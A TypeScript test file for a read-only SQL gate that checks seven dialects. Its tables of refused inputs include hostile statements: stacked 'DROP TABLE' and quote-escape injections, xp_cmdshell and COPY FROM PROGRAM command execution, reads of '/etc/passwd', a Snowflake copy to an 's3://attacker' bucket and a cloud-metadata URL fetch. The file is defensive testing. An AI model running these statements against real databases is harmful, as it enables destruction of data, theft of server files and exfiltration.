import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { checkReadOnly, type Dialect, type GateOptions } from "../../src/sql-gate";

const FIXTURES = path.resolve(__dirname, "../fixtures/sql-gate");

/** The corpus spells a tab `\t`, a newline `⏎` and U+00A0 `<NBSP>` (README.md next to it). */
const decode = (sql: string) =>
  sql
    .replace(/\\t/g, "\t")
    .replace(/⏎/g, "\n")
    .replace(/<NBSP>/g, "\u00a0");

const corpus = fs
  .readFileSync(path.join(FIXTURES, "corpus.tsv"), "utf8")
  .split("\n")
  .slice(1)
  .filter((line) => line.trim() !== "")
  .map((line) => {
    const [id, dialect, verdict, sql, what] = line.split("\t");
    return { id, dialect: dialect as Dialect, verdict, sql: decode(sql), what };
  });

/** A Trino connection reads its own catalog (the corpus calls it `pg`); TR09 reaches for another one. */
const OPTIONS: Partial<Record<Dialect, GateOptions>> = { trino: { catalogs: ["pg"] } };

const check = (sql: string, dialect: Dialect) => checkReadOnly(sql, dialect, OPTIONS[dialect] ?? {});

type Case = [dialect: Dialect, sql: string, reason: RegExp];

/** Refused, per class, in several spellings; the reason must name the class. */
const BLOCKED: Record<string, Case[]> = {
  "stacked statements": [
    ["pg", "select 1; select 2", /only one statement is allowed \(found 2\)/],
    ["pg", "SELECT 1;\nDELETE FROM t", /found 2/],
    ["mysql", "SELECT 1 # comment\n; DROP TABLE t", /found 2/],
    ["mysql", "select 1;select 2;select 3", /found 3/],
    ["tsql", "SELECT 1 -- x\n; DROP TABLE t", /found 2/],
    ["tsql", "SELECT 1 DROP TABLE t", /does not parse as T-SQL/],
    ["tsql", "SELECT 1\nGO\nDROP TABLE t", /does not parse as T-SQL/],
    ["trino", "SELECT 1; DROP TABLE t", /found 2/],
    ["snowflake", "SELECT 1; DROP TABLE t", /found 2/],
    ["bigquery", "BEGIN SELECT 1; END", /found 2/],
    ["clickhouse", "SELECT 1; DROP TABLE t", /found 2/],
  ],
  "data-modifying statements and CTEs": [
    ["pg", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", /data-modifying CTE \(DELETE\)/],
    ["pg", "with x as (insert into t values (1) returning 1) select * from x", /data-modifying CTE \(INSERT\)/],
    ["pg", "SELECT * FROM t WHERE id IN (WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT id FROM u)", /data-modifying CTE \(UPDATE\)/],
    ["pg", "SELECT * FROM (WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT 1) q", /data-modifying CTE \(MERGE\)/],
    ["pg", "/* hi */ DELETE FROM t", /DELETE modifies data/],
    ["pg", "UpDaTe t SET a = 1", /UPDATE modifies data/],
    ["mysql", "REPLACE INTO t VALUES (1)", /starts with REPLACE/],
    ["tsql", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE;", /starts with MERGE/],
    ["trino", "INSERT INTO t SELECT * FROM u", /starts with INSERT/],
    ["snowflake", "  insert into t values (1)", /starts with INSERT/],
    ["bigquery", "DELETE FROM t WHERE true", /starts with DELETE/],
    ["clickhouse", "ALTER TABLE t DELETE WHERE 1", /starts with ALTER/],
  ],
  "SELECT … INTO": [
    ["pg", "SELECT * INTO newt FROM t", /SELECT … INTO creates a table/],
    ["pg", "select * into temp newt from t", /SELECT … INTO creates a table/],
    ["mysql", "SELECT * FROM t INTO OUTFILE '/x.csv'", /INTO OUTFILE writes a file/],
    ["mysql", "SELECT * FROM t INTO DUMPFILE '/x'", /INTO DUMPFILE writes a file/],
    ["mysql", "SELECT a INTO @v FROM t", /SELECT … INTO/],
    ["tsql", "SELECT * INTO newtab FROM t", /SELECT … INTO/],
    ["tsql", "SELECT * INTO #tmp FROM t", /"#"/],
  ],
  "EXPLAIN that executes": [
    ["pg", "EXPLAIN ANALYZE SELECT 1", /EXPLAIN ANALYZE executes the statement/],
    ["pg", "explain analyse select 1", /EXPLAIN ANALYZE/],
    ["pg", "EXPLAIN (ANALYZE true, FORMAT JSON) SELECT 1", /EXPLAIN ANALYZE/],
    ["pg", "EXPLAIN (analyze false) SELECT 1", /EXPLAIN ANALYZE/],
    ["pg", 'EXPLAIN ("ANALYZE") SELECT 1', /EXPLAIN ANALYZE/],
    ["pg", "EXPLAIN DELETE FROM t", /EXPLAIN is allowed only for a query; DELETE/],
    ["pg", "EXPLAIN CREATE TABLE x AS SELECT 1", /CREATE TABLE AS/],
    ["pg", "EXPLAIN SELECT nextval('s')", /nextval/],
    ["mysql", "EXPLAIN ANALYZE SELECT 1", /starts with EXPLAIN/],
    ["trino", "EXPLAIN ANALYZE SELECT 1", /starts with EXPLAIN/],
  ],
  "row-locking clauses and lock hints": [
    ["pg", "SELECT * FROM t FOR UPDATE", /row-locking clause FOR UPDATE is not allowed/],
    ["pg", "SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", /FOR NO KEY UPDATE/],
    ["pg", "select * from t for share", /FOR SHARE/],
    ["pg", "SELECT * FROM t FOR KEY SHARE NOWAIT", /FOR KEY SHARE/],
    ["pg", "SELECT * FROM (SELECT * FROM t FOR UPDATE) x", /FOR UPDATE/],
    ["pg", "SELECT * FROM t WHERE id IN (SELECT id FROM u FOR UPDATE OF u)", /FOR UPDATE/],
    ["mysql", "SELECT * FROM t FOR UPDATE", /FOR UPDATE/],
    ["mysql", "SELECT * FROM t LOCK IN SHARE MODE", /LOCK IN SHARE MODE/],
    ["mysql", "SELECT * FROM (SELECT * FROM t FOR UPDATE) x", /FOR UPDATE/],
    ["tsql", "SELECT * FROM t WITH (UPDLOCK)", /locking table hint UPDLOCK/],
    ["tsql", "SELECT * FROM t WITH (HOLDLOCK)", /HOLDLOCK/],
    ["tsql", "SELECT * FROM t (XLOCK)", /XLOCK/],
    ["trino", "SELECT * FROM t FOR UPDATE", /does not parse/],
  ],
  "COPY, procedures, prepared and dynamic SQL": [
    ["pg", "COPY (SELECT 1) TO '/tmp/x'", /COPY/],
    ["pg", "COPY t FROM PROGRAM 'id'", /COPY/],
    ["pg", "CALL p()", /CALL runs a procedure/],
    ["pg", "DO $$BEGIN DELETE FROM t; END$$", /DO runs procedural code/],
    ["pg", "EXECUTE q", /EXECUTE/],
    ["pg", "PREPARE q AS SELECT 1", /PREPARE/],
    ["mysql", "CALL p()", /starts with CALL/],
    ["mysql", "PREPARE s FROM 'DROP TABLE t'", /starts with PREPARE/],
    ["mysql", "DO SLEEP(5)", /starts with DO/],
    ["tsql", "exec master..xp_cmdshell 'dir'", /starts with EXEC/],
    ["tsql", "EXEC('DROP TABLE t')", /starts with EXEC/],
    ["tsql", "WAITFOR DELAY '00:00:05'", /starts with WAITFOR/],
    ["trino", "CALL pg.system.execute(query => 'DROP TABLE t')", /starts with CALL/],
    ["trino", "EXECUTE IMMEDIATE 'DELETE FROM t'", /starts with EXECUTE/],
    ["snowflake", "COPY INTO 's3://attacker/x' FROM t", /starts with COPY/],
    ["snowflake", "PUT file:///tmp/x @stage", /stage references|starts with PUT/],
    ["snowflake", "GET @stage file:///tmp", /stage references/],
    ["bigquery", "EXECUTE IMMEDIATE 'DROP TABLE t'", /starts with EXECUTE/],
  ],
  "session changes, LISTEN/NOTIFY, locks and transactions": [
    ["pg", "SET statement_timeout = 0", /SET STATEMENT TIMEOUT changes session settings/],
    ["pg", "set local statement_timeout to 0", /changes session settings/],
    ["pg", "RESET ALL", /RESET changes session settings/],
    ["pg", "SET ROLE admin", /SET ROLE changes the session's privileges/],
    ["pg", "SET SESSION AUTHORIZATION postgres", /SET SESSION AUTHORIZATION/],
    ["pg", "LISTEN ch", /LISTEN/],
    ["pg", "NOTIFY ch, 'x'", /NOTIFY/],
    ["pg", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", /LOCK takes a table lock/],
    ["pg", "BEGIN", /transaction control/],
    ["pg", "START TRANSACTION READ WRITE", /transaction control/],
    ["pg", "COMMIT", /transaction control/],
    ["mysql", "SET SESSION TRANSACTION READ WRITE", /starts with SET/],
    ["mysql", "SELECT @a := 1", /variable assignment/],
    ["mysql", "LOCK TABLES t WRITE", /starts with LOCK/],
    ["tsql", "SET NOCOUNT ON", /starts with SET/],
    ["tsql", "USE master", /starts with USE/],
    ["trino", "SET SESSION query_max_execution_time = '100d'", /starts with SET/],
    ["trino", "RESET SESSION query_max_execution_time", /starts with RESET/],
    ["snowflake", "ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0", /starts with ALTER/],
    ["snowflake", "USE ROLE ACCOUNTADMIN", /starts with USE/],
    ["bigquery", "DECLARE x INT64", /starts with DECLARE/],
    ["clickhouse", "SET max_execution_time = 0", /starts with SET/],
    ["clickhouse", "SELECT * FROM t SETTINGS max_execution_time = 0", /does not parse as ClickHouse/],
  ],
  DDL: [
    ["pg", "CREATE TEMP TABLE tt AS SELECT * FROM t", /CREATE TABLE AS creates a table/],
    ["pg", "DROP TABLE t", /DDL statement \(DROP\) is not allowed/],
    ["pg", "ALTER TABLE t ADD COLUMN b int", /DDL statement \(ALTER TABLE\)/],
    ["pg", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", /DDL statement \(CREATE FUNCTION\)/],
    ["pg", "TRUNCATE t", /TRUNCATE modifies data/],
    ["pg", "COMMENT ON TABLE t IS 'x'", /COMMENT/],
    ["pg", "REFRESH MATERIALIZED VIEW mv", /REFRESH/],
    ["pg", "VACUUM t", /VACUUM/],
    ["mysql", "CREATE TABLE x AS SELECT 1", /starts with CREATE/],
    ["tsql", "DROP TABLE t", /starts with DROP/],
    ["trino", "CREATE TABLE hive.s.x AS SELECT * FROM pg.public.t", /starts with CREATE/],
    ["snowflake", "CREATE OR REPLACE TABLE x CLONE t", /starts with CREATE/],
    ["snowflake", "UNDROP TABLE t", /starts with UNDROP/],
    ["bigquery", "CREATE TABLE x AS SELECT 1", /starts with CREATE/],
    ["clickhouse", "OPTIMIZE TABLE t", /starts with OPTIMIZE/],
  ],
  "functions with side effects": [
    ["pg", "SELECT PG_TERMINATE_BACKEND(123)", /function pg_terminate_backend stops another session/],
    ["pg", "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity", /pg_terminate_backend/],
    ["pg", "SELECT * FROM t WHERE pg_cancel_backend(1)", /pg_cancel_backend/],
    ["pg", "SELECT (SELECT (SELECT nextval('s')))", /nextval/],
    ["pg", "SELECT * FROM t ORDER BY SetVal('s', 1)", /setval/],
    ["pg", "SELECT 1 FROM t UNION SELECT lo_import('/etc/passwd')", /lo_import/],
    ["pg", "SELECT lo_export(1, '/tmp/x')", /lo_export/],
    ["pg", "SELECT lo_unlink(1)", /lo_unlink/],
    ["pg", "SELECT lo_put(1, 0, 'x')", /lo_put/],
    ["pg", "SELECT loread(lo_open(1, 262144), 10)", /loread|lo_open/],
    ["pg", "SELECT pg_advisory_xact_lock(1)", /takes a lock/],
    ["pg", "SELECT pg_try_advisory_lock_shared(1)", /takes a lock/],
    ["pg", "SELECT pg_reload_conf()", /pg_reload_conf/],
    ["pg", "SELECT pg_rotate_logfile()", /pg_rotate_logfile/],
    ["pg", "SELECT set_config('statement_timeout', '0', false)", /set_config changes session state/],
    ["pg", "SELECT pg_read_file('/etc/passwd')", /reads or writes server files/],
    ["pg", "SELECT * FROM pg_ls_dir('.')", /server files/],
    ["pg", "SELECT pg_stat_file('x')", /server files/],
    ["pg", "SELECT * FROM ts_stat('SELECT to_tsvector(x) FROM t')", /executes SQL text/],
    ["pg", "SELECT database_to_xml(true, true, '')", /executes SQL text/],
    ["pg", "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", /replication/],
    ["pg", "SELECT pg_logical_emit_message(true, 'p', 'x')", /replication/],
    ["pg", "SELECT pg_switch_wal()", /pg_switch_wal/],
    ["pg", "SELECT pg_promote()", /pg_promote/],
    ["pg", "SELECT public.dblink_exec('x', 'DELETE FROM t')", /dblink_exec opens a connection/],
    ["pg", "WITH r AS (SELECT dblink('host=x', 'select 1')) SELECT * FROM r", /dblink/],
    ["pg", "SELECT my_func(x) FROM t", /not a reviewed built-in/],
    ["pg", "SELECT public.lower('x')", /public\.lower is not a reviewed built-in/],
    ["pg", 'SELECT "Now"()', /quoted function name/],
    ["pg", 'SELECT pg_catalog."pg_sleep"(1)', /quoted function name/],
    ["pg", "SELECT 1 ### 2", /operator ### is not a built-in operator/],
    ["pg", "SELECT 1 OPERATOR(myschema.+) 2", /operator myschema\.\+/],
    ["pg", "SELECT * FROM t TABLESAMPLE myfunc(10)", /sampling methods/],
    ["pg", "SELECT * FROM ROWS FROM (f_del(), generate_series(1, 2))", /f_del/],
    ["pg", "VALUES (nextval('s'))", /nextval/],
    ["pg", "WITH x AS (SELECT * FROM t FOR UPDATE) SELECT * FROM x", /FOR UPDATE/],
    ["pg", "SELECT count(*) FROM generate_series(1, 100000000)", /generate_series over more than/],
    ["pg", "SELECT * FROM generate_series(1, (SELECT max(id) FROM t))", /generate_series needs literal bounds/],
    ["mysql", "SELECT get_lock('a', 1)", /get_lock takes a lock/],
    ["mysql", "SELECT * FROM t WHERE x = (SELECT RELEASE_LOCK('a'))", /release_lock/],
    ["mysql", "SELECT IS_FREE_LOCK('a')", /is_free_lock/],
    ["mysql", "SELECT `get_lock`('a', 1)", /get_lock/],
    ["mysql", "SELECT Load_File('/etc/passwd')", /load_file reads or writes server files/],
    ["mysql", "SELECT BENCHMARK(100000000, MD5('x'))", /benchmark burns CPU/],
    ["mysql", "SELECT mydb.f(1)", /stored function mydb\.f/],
    ["mysql", "SELECT s.nextval FROM dual", /NEXTVAL advances a sequence/],
    ["mysql", "WITH c AS (SELECT 1) DELETE FROM t", /DELETE modifies data/],
    ["tsql", "WITH c AS (SELECT * FROM t) UPDATE c SET a = 1", /UPDATE modifies data/],
    ["tsql", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')", /openrowset opens a connection/],
    ["tsql", "SELECT * FROM OPENQUERY(srv, 'SELECT 1')", /openquery/],
    ["tsql", "SELECT dbo.xp_cmdshell('x')", /xp_cmdshell is a system procedure/],
    ["tsql", "SELECT sys.fn_get_audit_file('x', default, default)", /server files/],
    ["tsql", "SELECT * FROM srv.db.dbo.t", /linked-server/],
    ["snowflake", "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", /system\$cancel_all_queries is a system function/],
    ["snowflake", "select system$wait(10)", /system\$wait/],
    ["snowflake", "SELECT myseq.NEXTVAL", /NEXTVAL advances a sequence/],
    ["snowflake", "SELECT * FROM TABLE(GENERATOR(ROWCOUNT => 1000000000000))", /GENERATOR/],
    ["bigquery", "SELECT * FROM EXTERNAL_QUERY('conn', 'DELETE FROM t')", /external_query runs SQL on another database/],
    ["clickhouse", "SELECT file('/etc/passwd')", /function file reads files/],
    ["clickhouse", "SELECT * FROM url('http://169.254.169.254/', CSV)", /does not parse as ClickHouse/],
    ["clickhouse", "SELECT * FROM numbers(1000000000000)", /does not parse as ClickHouse/],
  ],
  "connector pass-through and catalogs outside the connection (Trino)": [
    ["trino", "SELECT * FROM TABLE(pg.system.query(query => 'DELETE FROM t'))", /does not parse as Trino/],
    ["trino", "SELECT * FROM TABLE(exclude_columns(input => TABLE(t), columns => DESCRIPTOR(a)))", /does not parse as Trino/],
    ["trino", "SELECT * FROM TABLE(result_scan(1))", /table functions are not allowed/],
    ["trino", "SELECT * FROM hive.s.t", /catalog hive is outside this connection/],
    ["trino", "SELECT * FROM pg.s.t WHERE EXISTS (SELECT 1 FROM hive.s.u)", /catalog hive/],
    ["trino", "SELECT * FROM pg.s.t JOIN other.s.u ON true", /catalog other/],
    ["trino", "SELECT * FROM pg.s.t WHERE id IN (SELECT query_id FROM system.runtime.queries)", /catalog system/],
  ],
  "executable comments, hints and comment tricks": [
    ["mysql", "/*!50000 DROP TABLE t */", /executable comments/],
    ["mysql", "SELECT 1 /*!50000 , (SELECT GET_LOCK('a',1)) */", /executable comments/],
    ["mysql", "SELECT /*M! DROP TABLE t */ 1", /executable comments/],
    ["mysql", "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ * FROM t", /optimizer hints/],
    ["mysql", "SELECT 1--1", /"--" outside a string/],
    ["mysql", "SELECT 1 --x\n, get_lock('a', 1)", /"--" outside a string/],
    ["trino", "SELECT 1 /* /* */ , (SELECT 1) -- */", /nested block comments/],
    ["trino", "SELECT 4 //* */ 2", /"\/\/" outside a string/],
    ["trino", "SELECT $$ x $$", /"\$\$" outside a string/],
    ["trino", "SELECT `a` FROM t", /"`" outside a string/],
    ["pg", "SELECT 1 /* a /* nested */ b */", /nested block comments/],
    ["tsql", "SELECT 1 /* nested /* comment */ */", /nested block comments/],
    ["snowflake", "SELECT 1 # x", /"#" outside a string/],
    ["bigquery", "SELECT '''x'''", /triple-quoted/],
    ["mysql", "SELECT 1 /* unterminated", /unterminated/],
    ["mysql", "SELECT 'unterminated", /unterminated/],
  ],
  "backslashes and invisible characters": [
    ["pg", "SELECT 'a\\' ; DROP TABLE t; -- '", /backslash before a quote/],
    ["pg", "SELECT E'it\\'s'", /backslash before a quote/],
    ["mysql", "SELECT 'a\\'; DROP TABLE t; -- '", /backslash before a quote/],
    ["snowflake", "SELECT 'a\\', ' ; DROP TABLE t; --'", /backslash before a quote/],
    ["pg", " \n\t dElEtE\u00a0FROM t", /does not parse as PostgreSQL/],
    ["mysql", "SELECT 1\u200b", /invisible character U\+200B/],
    ["trino", "SELECT 1 \u2028 FROM t", /invisible character U\+2028/],
    ["mysql", " \n\t dElEtE\u00a0FROM t", /starts with DELETE/],
  ],
  "statements that are not queries or do not parse": [
    ["pg", "", /empty/],
    ["pg", ";", /empty/],
    ["mysql", "-- only a comment", /empty/],
    ["pg", "SHOW ALL", /SHOW is not a query/],
    ["pg", "SELECT pg_cancel_backend($VICTIM)", /does not parse as PostgreSQL: syntax error at or near "\$"/],
    ["mysql", "HANDLER t OPEN", /starts with HANDLER/],
    ["mysql", "SHOW TABLES", /starts with SHOW/],
    ["tsql", "DECLARE @q nvarchar(99) = CHAR(68)+'ROP TABLE t'; EXEC(@q)", /found 2/],
    ["trino", "VALUES 1", /starts with VALUES/],
    ["clickhouse", "SELECT 1 FORMAT JSON", /does not parse as ClickHouse/],
  ],
};

const blockedRows = Object.entries(BLOCKED).flatMap(([kind, cases]) => cases.map(([dialect, sql, reason]) => ({ kind, dialect, sql, reason })));

/** Scans every dialect must run. `T` is replaced by a table name in the dialect's own quoting. */
const COMMON = [
  "SELECT * FROM t",
  "SELECT 1",
  "SELECT album_id, title FROM album WHERE artist_id = 1",
  "SELECT a.title, ar.name FROM album a JOIN artist ar ON ar.artist_id = a.artist_id",
  "SELECT g, count(*) AS n FROM t GROUP BY g HAVING count(*) > 1 ORDER BY n DESC",
  "WITH c AS (SELECT a, b FROM t WHERE b > 0) SELECT c.a FROM c LEFT JOIN u ON u.a = c.a",
  "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE u.x > (SELECT avg(x) FROM u))",
  "SELECT a, (SELECT max(b) FROM u) AS m FROM t WHERE EXISTS (SELECT 1 FROM v WHERE v.a = t.a)",
  "SELECT a FROM t1 UNION SELECT a FROM t2 UNION ALL SELECT a FROM t3",
  "SELECT id, row_number() OVER (PARTITION BY g ORDER BY id) AS rn, sum(x) OVER (ORDER BY id) FROM t",
  "SELECT CASE WHEN a > 1 THEN 'big' ELSE 'small' END AS size, COALESCE(b, 0) FROM s.t WHERE x BETWEEN 1 AND 2",
  "SELECT * FROM T",
];
const QUOTED: Record<Dialect, string> = {
  pg: '"My Schema"."My Table"',
  mysql: "`my db`.`my table`",
  tsql: "[dbo].[my table]",
  trino: '"pg"."public"."My Table"',
  snowflake: '"DB"."PUBLIC"."My Table"',
  bigquery: "`project.dataset.table`",
  clickhouse: "`db`.`my table`",
};
const LIMITED: Record<Dialect, string[]> = {
  pg: [
    "SELECT a, b FROM s.t WHERE x = 1 ORDER BY a LIMIT 10",
    "SELECT a.title, ar.name FROM album a JOIN artist ar ON ar.artist_id = a.artist_id LIMIT 5",
    "TABLE t",
    "VALUES (1, 'a'), (2, 'b')",
    "SELECT pg_sleep(5)",
    "EXPLAIN (FORMAT JSON) SELECT * FROM t",
    "SELECT * FROM generate_series(1, 10) g",
    "SELECT * FROM generate_series('2024-01-01'::date, '2024-12-31'::date, '1 day'::interval)",
    "SELECT now(), extract(year FROM now()), substring('abc' FROM 2), trim(both ' ' FROM s), s ILIKE 'a%', j->>'k', starts_with(s, 'a') FROM t",
    "SELECT random(), gen_random_uuid(), clock_timestamp(), txid_current(), pg_current_xact_id(), current_setting('TimeZone')",
    "SELECT pg_size_pretty(pg_total_relation_size('t')), pg_database_size(current_database())",
    "SELECT getdate(), nvl(a, b), listagg(s, ',') FROM t",
    "SELECT * FROM t ORDER BY id OFFSET 5 ROWS FETCH FIRST 10 ROWS ONLY",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r",
    "SELECT * FROM t1 LEFT JOIN LATERAL (SELECT * FROM t2 WHERE t2.a = t1.a LIMIT 1) x ON true",
    "SELECT 'DROP TABLE t; SELECT pg_terminate_backend(1)' AS s, $$DELETE FROM t$$, 'it''s', \"update\" FROM t",
    "SELECT table_name FROM information_schema.columns WHERE table_schema = 'public'",
  ],
  mysql: [
    "SELECT a, b FROM s.t WHERE x = 1 ORDER BY a LIMIT 10",
    "SELECT a.title, ar.name FROM album a JOIN artist ar ON ar.artist_id = a.artist_id LIMIT 5",
    "SELECT SLEEP(5)",
    "SELECT * FROM t LIMIT 5, 10",
    "SELECT NOW(), DATE_FORMAT(d, '%Y'), IFNULL(a, 0), CONCAT(a, b), @@version FROM t",
    "SELECT id /* insert into t values (1) */ FROM t -- done",
    "SELECT 'a;b', \"dq\" FROM t # done",
  ],
  tsql: [
    "SELECT TOP 10 a, b FROM s.t WHERE x = 1 ORDER BY a",
    "SELECT TOP 5 a.title, ar.name FROM album a JOIN artist ar ON ar.artist_id = a.artist_id",
    "SELECT * FROM t WITH (NOLOCK)",
    "SELECT GETDATE(), ISNULL(a, 0), CONVERT(varchar, d, 120) FROM db.dbo.t",
  ],
  trino: [
    "SELECT a, b FROM s.t WHERE x = 1 ORDER BY a LIMIT 10",
    "SELECT a.title, ar.name FROM album a JOIN artist ar ON ar.artist_id = a.artist_id LIMIT 5",
    "SELECT * FROM pg.public.album a JOIN pg.public.artist ar ON ar.artist_id = a.artist_id",
    "SELECT date_trunc('day', ts), approx_distinct(x) FROM pg.s.t GROUP BY 1",
    "SELECT * FROM t CROSS JOIN UNNEST(arr) AS u(x)",
  ],
  snowflake: [
    "SELECT a, b FROM s.t WHERE x = 1 ORDER BY a LIMIT 10",
    "SELECT v:field::string FROM t QUALIFY row_number() OVER (ORDER BY id) = 1",
    "SELECT f.value FROM t, LATERAL FLATTEN(input => t.v) f",
    "SELECT * FROM TABLE(GENERATOR(ROWCOUNT => 10))",
    "SELECT $$a -- b$$ AS s // a Snowflake comment",
  ],
  bigquery: ["SELECT a, b FROM s.t WHERE x = 1 ORDER BY a LIMIT 10", "SELECT * FROM t, UNNEST(arr) AS x", "SELECT 1 # comment"],
  clickhouse: [
    "SELECT a, b FROM db.t WHERE x = 1 ORDER BY a LIMIT 10",
    "SELECT toStartOfDay(ts) AS d, uniqExact(u), count() FROM db.events GROUP BY d ORDER BY d DESC LIMIT 5",
    "SELECT sleep(1)",
  ],
};
const DIALECTS = Object.keys(QUOTED) as Dialect[];
const allowedRows = DIALECTS.flatMap((dialect) => [...COMMON.map((sql) => sql.replace(/\bT$/, QUOTED[dialect])), ...LIMITED[dialect]].map((sql) => ({ dialect, sql })));

describe("checkReadOnly", () => {
  it("reads every row of the corpus", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(56);
    expect(new Set(corpus.map((row) => row.verdict))).toEqual(new Set(["allow", "block"]));
  });

  it.each(corpus)("gives the corpus verdict for $id ($dialect, $verdict): $what", async ({ dialect, verdict, sql }) => {
    const result = await check(sql, dialect);
    expect(result.allowed ? "allow" : "block", JSON.stringify(result)).toBe(verdict);
  });

  it.each(blockedRows)("refuses $kind in $dialect: $sql", async ({ dialect, sql, reason }) => {
    const result = await check(sql, dialect);
    expect(result).toMatchObject({ allowed: false, reason: expect.stringMatching(reason) });
  });

  it.each([
    ["pg", "SELEC 1", true],
    ["pg", "SELECT * FROM", true],
    ["pg", "DELETE FROM t", false],
    ["pg", "SELECT 1; SELECT 2", false],
    // node-sql-parser's grammars are approximations: what they cannot parse may be valid at the source.
    ["trino", "SELECT * FROM t FOR UPDATE", false],
    ["mysql", "SELEC 1", false],
  ] as const)("marks only what PostgreSQL's own parser rejects as a syntax error (%s: %s)", async (dialect, sql, syntax) => {
    const result = await check(sql, dialect);
    expect(result.allowed).toBe(false);
    expect(!result.allowed && result.syntax === true).toBe(syntax);
  });

  it.each(allowedRows)("runs the common scan in $dialect: $sql", async ({ dialect, sql }) => {
    const result = await check(sql, dialect);
    expect(result, JSON.stringify(result)).toMatchObject({ allowed: true });
  });

  it("returns the statement without its trailing semicolon, whitespace or outer comments", async () => {
    await expect(check("  SELECT 1 ;  -- done\n", "pg")).resolves.toEqual({ allowed: true, sql: "SELECT 1" });
    await expect(check("-- first\nSELECT id /* kept */ FROM t;;", "pg")).resolves.toEqual({ allowed: true, sql: "SELECT id /* kept */ FROM t" });
    await expect(check("SELECT 1;\n", "mysql")).resolves.toEqual({ allowed: true, sql: "SELECT 1" });
  });

  it("blanks comments out for the node-sql-parser dialects, so the engine runs the text that was checked", async () => {
    const result = await check("SELECT id /* a */ FROM t -- b", "trino");
    expect(result).toEqual({ allowed: true, sql: "SELECT id         FROM t" });
  });

  it("keeps strings untouched and turns a pasted non-breaking space outside them into a plain space", async () => {
    await expect(check("SELECT\u00a0'a\u00a0b' FROM t", "mysql")).resolves.toEqual({ allowed: true, sql: "SELECT 'a\u00a0b' FROM t" });
  });

  it("passes an EXPLAIN on as the one statement to run, without its semicolon", async () => {
    await expect(check("EXPLAIN (FORMAT JSON) SELECT * FROM t;", "pg")).resolves.toEqual({ allowed: true, sql: "EXPLAIN (FORMAT JSON) SELECT * FROM t" });
  });

  it("accepts any Trino catalog when the connection names none, and refuses others when it does", async () => {
    await expect(checkReadOnly("SELECT * FROM other.s.t", "trino")).resolves.toMatchObject({ allowed: true });
    await expect(checkReadOnly("SELECT * FROM other.s.t", "trino", { catalogs: ["PG"] })).resolves.toMatchObject({ allowed: false });
    await expect(checkReadOnly("SELECT * FROM PG.s.t JOIN s.u ON true", "trino", { catalogs: ["pg"] })).resolves.toMatchObject({ allowed: true });
  });

  it("never echoes more than 80 characters of the statement in a reason", async () => {
    const long = "x".repeat(5_000);
    for (const [sql, dialect] of [
      [`SELECT ${long}(1)`, "pg"],
      [`SELECT 1 FROM t WHERE '${long}`, "pg"],
      [`SELECT ${long}.f(1)`, "mysql"],
      [`SELECT 1 ${long} ${long}`, "trino"],
      [`${long} TABLE t`, "tsql"],
      [`SELECT 1 FROM ${long}.s.t`, "trino"],
    ] as [string, Dialect][]) {
      const result = await checkReadOnly(sql, dialect, { catalogs: ["pg"] });
      expect(result.allowed).toBe(false);
      const reason = (result as { reason: string }).reason;
      expect(reason.length, reason).toBeLessThan(200);
      expect(reason, reason).not.toContain("x".repeat(81));
    }
  });

  it("refuses a statement longer than 100,000 characters before parsing it", async () => {
    await expect(check(`SELECT 1 -- ${"y".repeat(100_000)}`, "pg")).resolves.toEqual({ allowed: false, reason: expect.stringMatching(/longer than/) });
  });
});
